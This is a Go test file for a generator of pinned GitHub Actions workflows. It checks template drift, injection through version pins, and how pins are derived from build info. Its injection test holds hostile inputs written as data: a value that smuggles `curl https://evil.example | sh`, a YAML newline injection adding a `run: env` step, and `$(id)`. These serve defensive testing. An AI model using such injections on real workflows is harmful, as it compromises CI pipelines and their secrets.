package actions

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/goccy/go-yaml"
	"github.com/google/go-cmp/cmp"

	"github.com/classla/gantry/internal/version"
)

// This repository runs its own jobs with the workflow it ships: its copy must be the template,
// differing only in what it pins.
func TestTheRepositorysWorkflowIsTheTemplate(t *testing.T) {
	t.Parallel()
	path := filepath.Join("..", "..", filepath.FromSlash(WorkflowFile))
	have, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var wf struct {
		Jobs struct {
			Run struct {
				Steps []struct {
					With map[string]any    `yaml:"with"`
					Env  map[string]string `yaml:"env"`
				} `yaml:"steps"`
			} `yaml:"run"`
		} `yaml:"jobs"`
	}
	if err := yaml.Unmarshal(have, &wf); err != nil {
		t.Fatalf("%s: %v", path, err)
	}
	var pin Pin
	for _, s := range wf.Jobs.Run.Steps {
		if v, ok := s.With["go-version"].(string); ok {
			pin.Go = v
		}
		if v, ok := s.Env["GANTRY_VERSION"]; ok {
			pin.Gantry = v
		}
	}
	want, err := Workflow(pin)
	if err != nil {
		t.Fatalf("%s pins %+v: %v", path, pin, err)
	}
	if diff := cmp.Diff(strings.Split(string(want), "\n"), strings.Split(string(have), "\n")); diff != "" {
		t.Errorf("%s is not internal/actions/gantry.yml pinned to %+v; write it again with\n"+
			"  go run ./cmd/gantry setup workflow --version %s --out %s --force\n(-template +file):\n%s",
			path, pin, pin.Gantry, WorkflowFile, diff)
	}
}

func TestAPinCannotBreakOutOfTheWorkflow(t *testing.T) {
	t.Parallel()
	for _, p := range []Pin{
		{Gantry: `v1.0.0"; curl https://evil.example | sh; "`, Go: "1.26"},
		{Gantry: "v1.0.0\n      - run: env", Go: "1.26"},
		{Gantry: "$(id)", Go: "1.26"},
		{Gantry: "-v1", Go: "1.26"},
		{Gantry: "", Go: "1.26"},
		{Gantry: "v1.0.0", Go: `1.26"` + "\n" + `          cache: true`},
		{Gantry: "v1.0.0", Go: ""},
	} {
		if out, err := Workflow(p); err == nil {
			t.Errorf("Workflow(%q) = nil error, want a refusal; wrote:\n%s", p, out)
		}
	}
	for _, p := range []Pin{
		{Gantry: "v1.4.0", Go: "1.26.8"},
		{Gantry: "v0.0.0-20261204020000-111417a689a6", Go: "1.26"},
		{Gantry: "111417a", Go: "stable"},
	} {
		if _, err := Workflow(p); err != nil {
			t.Errorf("Workflow(%q): %v", p, err)
		}
	}
}

func TestPinOfNamesWhatGoInstallTakes(t *testing.T) {
	t.Parallel()
	const commit = "111417a689a6e118f55a539897aa7430c13cf2b7"
	cases := []struct {
		name     string
		in       version.Info
		want     Pin
		modified bool
		err      error
	}{
		{"a released version is pinned as is",
			version.Info{Version: "v1.4.0", Commit: commit, GoVersion: "go1.26.8"},
			Pin{Gantry: "v1.4.0", Go: "1.26.8"}, false, nil},
		{"a pseudo-version from go install at a commit is pinned as is",
			version.Info{Version: "v0.0.0-20261204020000-111417a689a6", GoVersion: "go1.26.8"},
			Pin{Gantry: "v0.0.0-20261204020000-111417a689a6", Go: "1.26.8"}, false, nil},
		{"git describe past a tag pins its commit",
			version.Info{Version: "v1.4.0-3-g111417a", GoVersion: "go1.26.8"},
			Pin{Gantry: "111417a", Go: "1.26.8"}, false, nil},
		{"a dirty tree pins the commit and says so",
			version.Info{Version: "v1.4.0-3-g111417a-dirty", GoVersion: "go1.26.8"},
			Pin{Gantry: "111417a", Go: "1.26.8"}, true, nil},
		{"a build without a version pins its commit",
			version.Info{Version: "dev", Commit: commit, Modified: true, GoVersion: "go1.26.8"},
			Pin{Gantry: commit, Go: "1.26.8"}, true, nil},
		{"an unreleased Go asks setup-go for the stable one",
			version.Info{Version: "v1.4.0", GoVersion: "devel go1.27-abcdef"},
			Pin{Gantry: "v1.4.0", Go: "stable"}, false, nil},
		{"a build that knows neither version nor commit cannot be pinned",
			version.Info{Version: "dev", Commit: "unknown", GoVersion: "go1.26.8"},
			Pin{Go: "1.26.8"}, false, ErrNoVersion},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			got, modified, err := PinOf(c.in)
			if got != c.want || modified != c.modified || !errors.Is(err, c.err) {
				t.Errorf("PinOf(%+v) = %+v, %v, %v; want %+v, %v, %v", c.in, got, modified, err, c.want, c.modified, c.err)
			}
		})
	}
}
